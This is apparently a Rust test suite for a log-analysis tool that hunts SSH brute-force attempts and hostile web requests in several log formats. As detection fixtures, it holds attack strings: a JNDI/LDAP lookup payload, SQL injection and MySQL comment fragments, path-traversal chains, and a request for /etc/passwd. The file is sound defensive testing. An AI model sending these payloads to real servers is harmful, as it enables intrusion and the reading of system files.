    assert_eq!((findings[0].kind.as_str(), findings[0].source.as_str()), ("guessing", "2001:db8::/64"));
    let log: String = (0..10).map(|at| failed(at, "ünïcode-пользователь", "192.0.2.9")).collect();
    assert_eq!(hunted(&log)[0].user, "ünïcode-пользователь");
}

/// A name is bytes, whatever script they spell; a zone (RFC 4007) says only through which interface a neighbour came.
#[test]
fn ok_names_in_other_scripts_and_addresses_with_zones() {
    for user in ["Ольга", "管理者", "مدير", "e\u{301}va", "x\u{202e}toor"] {
        let log: String = (0..12)
            .map(|second| failed(second, user, if second % 2 == 0 { "fe80::1%eth0" } else { "FE80:0:0::1%2" }))
            .collect();
        let findings = hunted(&log);
        let guessing = found(&findings, "guessing").unwrap();
        assert_eq!((guessing.user.as_str(), guessing.source.as_str(), guessing.seen.count), (user, "fe80::1", 12));
    }
}

#[test]
fn ok_bounded_by_sources() {
    let settings = HuntSettings { sources: 16, ..HuntSettings::default() };
    let log: String = (0..5_000).map(|at| failed(at, "ann", &format!("10.0.{}.{}", at / 250, at % 250))).collect();
    let findings = hunted_in("syslog", &log, &settings, 100);
    assert!(findings.len() <= 32);
}

/// Whatever a client sends, a hunt ends, and soon: paths of 64 KiB, codes within codes, bytes that are no text.
#[test]
fn ok_hostile_requests_are_bounded() {
    let paths = [
        format!("/{}", "%25".repeat(21_000)),
        format!("/a?x={}2e", "%25".repeat(20_000)),
        format!("/{}", "../".repeat(20_000)),
        format!("/a?{}", "a=%27%20or%201=1&".repeat(3_500)),
        format!("/a?x={}", "/*!50000".repeat(8_000)),
        format!("/a?x={}", "(".repeat(60_000)),
        "/поиск?q=привет&x=${jndi:ldap://x}".to_owned(),
    ];
    let log: String = paths
        .iter()
        .map(|path| format!("192.0.2.9 - - [01/May/2024:12:00:00 +0000] \"GET {path} HTTP/1.1\" 200 5 \"-\" \"x\"\n"))
        .collect();
    let findings = hunted_in("access-combined", &log, &HuntSettings::default(), 2);
    assert!(found(&findings, "jndi").is_some_and(|found| found.seen.first_line == 7), "{findings:?}");
    assert!(found(&findings, "traversal").is_some() && found(&findings, "sql-injection").is_some());
}

#[test]
fn ok_what_visitors_do() {
    let line = |at: u32, method: &str, path: &str, status: u16, bytes: u32| {
        format!(
            "192.0.2.9 - - [01/May/2024:12:{:02}:{:02} +0000] \"{method} {path} HTTP/1.1\" {status} {bytes} \"-\" \"x\"\n",
            at / 60,
            at % 60
        )
    };
    let kinds = |log: &str| {
        let findings = hunted_in("access-combined", log, &HuntSettings::default(), 7);
        findings.into_iter().map(|found| found.kind).collect::<Vec<_>>()
    };
    let search: String = (0..25).map(|at| line(at, "GET", &format!("/p{at}"), 404, 9)).collect();
    assert_eq!(kinds(&search), ["path-search"]);
    let one_path: String = (0..25).map(|at| line(at, "GET", "/favicon.ico", 404, 9)).collect();
    assert_eq!(kinds(&one_path), Vec::<String>::new());
    let logins: String = (0..12).map(|at| line(at, "POST", "/wp-login.php", 200, 3_000)).collect();
    assert_eq!(kinds(&logins), ["web-login-guessing"]);
    assert_eq!(
        kinds(&(logins + &line(20, "POST", "/wp-login.php", 302, 0))),
        ["web-login-success", "web-login-guessing"]
    );
    let calls: String = (0..12).map(|at| line(at, "POST", "/api/collect", 200, 3)).collect();
    assert_eq!(kinds(&calls), Vec::<String>::new());
    assert_eq!(kinds(&line(0, "POST", "/wp-content/uploads/x.php", 200, 3)), ["uploaded-program"]);
    assert_eq!(kinds(&line(0, "POST", "/wp-content/uploads/x.php", 404, 3)), Vec::<String>::new());
    let flood: String = (0..1_300).map(|at| line(at / 650, "GET", "/", 200, 3)).collect();
    assert_eq!(kinds(&flood), ["flood"]);
}

/// Hunts through a text that is cut anywhere, each slice scouted by itself and sent as bytes, as workers do.
fn hunted_by_workers(format: &str, bytes: &[u8], settings: &HuntSettings, cuts: &[usize]) -> Hunted {
    let formats = [by_name(format).unwrap().clone()];
    let scouting = Scouting::new(settings, Vec::new()).unwrap();
    let mut hunt = Hunt::with_rules(settings, Vec::new()).unwrap();
    let ends = cuts.iter().map(|cut| cut % (bytes.len() + 1)).collect::<BTreeSet<_>>();
    let mut start = 0;
    for end in ends.into_iter().chain([bytes.len()]) {
        let seen = &bytes[start.max(1) - 1..bytes.len().min(end + BEYOND)];
        let mut scout = scouting.scout();
        scout.read_slice(seen, start > 0, end - start, &formats);
        hunt.take(&Notes::from_bytes(&scout.finish().to_bytes()).unwrap());
        start = end;
    }
    hunt.finish()
}

/// Logins over New Year, requests, a line that is longer than what is looked at, own rules, and no line end at the end.
fn mixed_log() -> String {
    let mut log: String = (0..40).map(|at| failed(at, &format!("u{}", at % 7), "192.0.2.9")).collect();
    log += &accepted(50, "u1", "192.0.2.9").replace("Mar  1", "Jan  1");
    log += &line(60, "sshd", &format!("Failed password for {} from 192.0.2.9 port 22 ssh2", "x".repeat(70_000)));
    log += "\n\r\nno such line\n";
    log += &(0..30).map(|at| accepted(at * 90, "ann", "198.51.100.7")).collect::<String>();
    log += accepted(4_000, "ann", "203.0.113.5").trim_end();
    log
}

proptest! {
    #[test]
    fn ok_the_same_for_any_cut_and_any_number_of_workers(cuts in proptest::collection::vec(0usize..100_000, 0..9)) {
        let rules = vec![OwnRule { name: "own".to_owned(), keyword: "no such".to_owned(), ..OwnRule::default() }];
        let settings = HuntSettings { rules, ..HuntSettings::default() };
        let log = mixed_log();
        let whole = hunted_by_workers("syslog", log.as_bytes(), &settings, &[]);
        prop_assert!(whole.findings.len() > 2);
        prop_assert_eq!(whole.lines, log.lines().count() as u64);
        let cut = hunted_by_workers("syslog", log.as_bytes(), &settings, &cuts);
        prop_assert_eq!(cut.findings, whole.findings);
        prop_assert_eq!((cut.measures, cut.lines, cut.logins), (whole.measures, whole.lines, whole.logins));
    }
}

#[test]
fn ok_all_lines_of_a_finding() {
    let mut log: String = (0..12).map(|at| failed(at, "ann", "192.0.2.9") + &failed(at, "ann", "192.0.2.8")).collect();
    log += &accepted(20, "ann", "192.0.2.9");
    let formats = [by_name("syslog").unwrap().clone()];
    let take = |mut hunt: Hunt| {
        let mut scout = hunt.scout();
        scout.read_slice(log.as_bytes(), false, log.len(), &formats);
        hunt.take(&scout.finish());
        hunt
    };
    let settings = HuntSettings::default();
    let findings = take(Hunt::new(&settings)).finish().findings;
    let guessing = findings.iter().find(|found| found.kind == "guessing" && found.source == "192.0.2.9").unwrap();
    let lines = take(Hunt::new(&settings).tracing(guessing)).finish_traced(guessing);
    assert_eq!(lines, (0..12).map(|at| 2 * at + 1).collect::<Vec<u64>>());
}

#[test]
fn ok_measures_are_what_a_count_says() {
    let log: String = (0..12).map(|at| failed(at, "ann", "192.0.2.9")).collect::<String>()
        + &(0..3).map(|at| failed(at, "ann", "192.0.2.8")).collect::<String>();
    let hunted = hunted_by_workers("syslog", log.as_bytes(), &HuntSettings::default(), &[]);
    let failures = hunted.measures.iter().find(|measure| measure.name == "failures").unwrap();
    assert_eq!((failures.total, failures.reached, failures.most), (2, 1, 12));
    let filled = failures.lows.iter().zip(&failures.counts).filter(|(_, count)| **count > 0);
    assert_eq!(filled.map(|(low, count)| (*low, *count)).collect::<Vec<_>>(), [(3, 1), (12, 1)]);
}

#[test]
fn ok_the_same_for_any_cut() {
    let Some(data) = common::real_logs("hunt, cuts") else { return };
    let bytes = std::fs::read(data.join("auth/auth_ec2_7k.log")).unwrap();
    let text = String::from_utf8_lossy(&bytes);
    let whole = hunted_in("syslog", &text, &HuntSettings::default(), 1_000_000);
    for slice in [1, 37, 1_000] {
        assert_eq!(hunted_in("syslog", &text, &HuntSettings::default(), slice), whole, "{slice}");
    }
}

/// The source of a line, as a cut at ` from ` and the next space gives it.
fn source(line: &str) -> &str {
    line.rsplit_once(" from ").map_or("", |(_, rest)| rest.split([' ', ']']).next().unwrap_or_default())
}

/// How many failures a line tells by the plain words of it.
fn failures(line: &str) -> u64 {
    if line.contains("]: Failed password for ") {
        return 1;
    }
    let repeated = line.split_once("]: message repeated ").filter(|(_, rest)| rest.contains("Failed password for "));
    repeated.map_or(0, |(_, rest)| rest.split(' ').next().unwrap().parse().unwrap())
}

/// By source: failures, where of `Failed password`, `Invalid user` and a client's own `Auth fail` of one process the largest
/// number counts.
fn counted(text: &str) -> BTreeMap<&str, u64> {
    let mut processes: BTreeMap<(&str, &str), (u64, u64, u64)> = BTreeMap::new();
    for line in text.lines() {
        let Some((_, rest)) = line.split_once("sshd[") else { continue };
        let count = processes.entry((source(line).trim_end_matches(':'), rest.split(']').next().unwrap())).or_default();
        count.0 += failures(line);
        count.1 += u64::from(line.contains("]: Invalid user "));
        count.2 += u64::from(line.contains(": Auth fail"));
    }
    let mut counts = BTreeMap::new();
    for ((source, _), (failed, invalid, gone)) in processes {
        *counts.entry(source).or_default() += failed.max(invalid).max(gone);
    }
    counts
}

/// The lines of successes after three failures or more of the same source, none of which lies a day before the next.
fn broken(text: &str) -> Vec<(u64, &str)> {
    let format = by_name("syslog").unwrap();
    let (mut runs, mut found): (BTreeMap<&str, (u64, i64)>, Vec<_>) = (BTreeMap::new(), Vec::new());
    for (number, line) in text.lines().enumerate().filter(|(_, line)| line.contains("sshd[")) {
        let now = format.parse(line.as_bytes()).and_then(|header| header.time_ms).unwrap_or(0);
        let run = runs.entry(source(line)).or_default();
        let is_old = now - run.1 > 86_400_000;
        if failures(line) > 0 {
            *run = (if is_old { 0 } else { run.0 } + failures(line), now);
        } else if line.contains("]: Accepted ") {
            if run.0 >= 3 && !is_old {
                found.push((number as u64 + 1, source(line)));
            }
            *run = (0, 0);
        }
    }
    found
}

#[test]
fn every_source_with_ten_failures_is_found() {
    let Some(data) = common::real_logs("hunt") else { return };
    for name in ["auth_ec2_7k.log", "auth_bruteforce_10k.log"] {
        let bytes = std::fs::read(data.join("auth").join(name)).unwrap();
        let text = String::from_utf8_lossy(&bytes);
        let findings = hunted(&text);
        let of_kinds = |kinds: &[&str]| {
            findings.iter().filter(|found| kinds.contains(&found.kind.as_str())).cloned().collect::<Vec<_>>()
        };
        let told: BTreeMap<String, u64> = of_kinds(&["guessing", "spraying", "slow-and-low"])
            .into_iter()
            .map(|found| (found.source, found.seen.count))
            .collect();
        let counts: BTreeMap<String, u64> =
            counted(&text).into_iter().map(|(source, count)| (source.to_owned(), count)).collect();
        let many: BTreeMap<_, _> = counts.into_iter().filter(|(_, count)| *count >= 10).collect();
        println!("{name}: {} sources with ten failures or more, {} told", many.len(), told.len());
        assert_eq!(many, told, "{name}");
        let broken = broken(&text);
        let successes = of_kinds(&["success-after-failures", "key-after-failures"]);
        println!("{name}: {} successes after failures", broken.len());
        assert_eq!(successes.iter().map(|found| found.seen.count).sum::<u64>(), broken.len() as u64, "{name}");
        for (line, source) in broken {
            let is_told = |found: &Finding| {
                found.source == source && (found.seen.first_line..=found.seen.last_line).contains(&line)
            };
            assert!(successes.iter().any(is_told), "{name}: {line} {source}");
        }
    }
}

/// What services log of requests, each in its own words: a traversal, and guessing at a login that was let in.
#[test]
fn ok_requests_in_the_lines_of_services_are_hunted() {
    type Shape = fn(u32, &str, &str, u32) -> String;
    let shapes: [(&str, Shape); 4] = [
        ("json", |second, method, path, status| {
            format!(
                r#"{{"timestamp":"2026-11-20T08:00:{second:02}Z","level":"info","message":"request","client_ip":"203.0.113.5","method":"{method}","path":"{path}","status":{status}}}"#
            )
        }),
        ("pino", |second, method, path, status| {
            format!(
                r#"{{"level":30,"time":17951616000{second:02},"pid":7,"hostname":"web-1","req":{{"method":"{method}","url":"{path}","remoteAddress":"203.0.113.5"}},"res":{{"statusCode":{status}}},"msg":"request completed"}}"#
            )
        }),
        ("ecs", |second, method, path, status| {
            format!(
                r#"{{"@timestamp":"2026-11-20T08:00:{second:02}Z","log.level":"info","ecs.version":"1.6.0","message":"request","source":{{"ip":"203.0.113.5"}},"http":{{"request":{{"method":"{method}"}},"response":{{"status_code":{status}}}}},"url":{{"original":"{path}"}}}}"#
            )
        }),
        ("logfmt", |second, method, path, status| {
            format!(
                "ts=2026-11-20T08:00:{second:02}Z level=info msg=request remote_ip=203.0.113.5 method={method} uri={path} status={status}"
            )
        }),
    ];
    for (format, shape) in shapes {
        let mut lines: Vec<String> = (0..30).map(|second| shape(second, "POST", "/api/login", 401)).collect();
        lines.push(shape(31, "POST", "/api/login", 200));
        lines.push(shape(40, "GET", "/x?f=../../../etc/passwd", 200));
        let text = lines.join("\n");
        let findings = hunted_in(format, &text, &HuntSettings::default(), text.len());
        let kinds: Vec<String> = findings.into_iter().map(|found| found.kind).collect();
        for kind in ["web-login-guessing", "web-login-success", "traversal"] {
            assert!(kinds.iter().any(|found| found == kind), "{kind} in {}: {kinds:?}", lines[0]);
        }
    }
}
